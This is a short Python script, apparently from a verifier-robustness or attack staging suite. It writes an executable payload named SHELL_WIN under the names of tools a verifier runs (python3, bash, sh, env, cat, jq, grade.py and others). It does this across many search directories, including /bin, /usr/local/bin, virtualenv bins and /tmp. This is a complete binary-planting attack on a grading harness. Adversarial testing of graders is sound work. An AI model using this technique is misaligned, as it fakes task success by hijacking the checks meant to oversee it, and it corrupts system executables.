"""Programs with the names that a verifier starts, in every directory that could be searched."""

from stage import PLACES, SHELL_WIN, put

for place in (
    *PLACES,
    "bin",
    ".local/bin",
    "node_modules/.bin",
    "venv/bin",
    ".venv/bin",
    "/usr/local/bin",
    "/bin",
    "/tmp",
    "/run",
):
    for name in (
        "python3",
        "python",
        "sh",
        "bash",
        "env",
        "mkdir",
        "dirname",
        "cd",
        "cat",
        "jq",
        "grade.py",
    ):
        put(f"{place}/{name}", SHELL_WIN, 0o755)
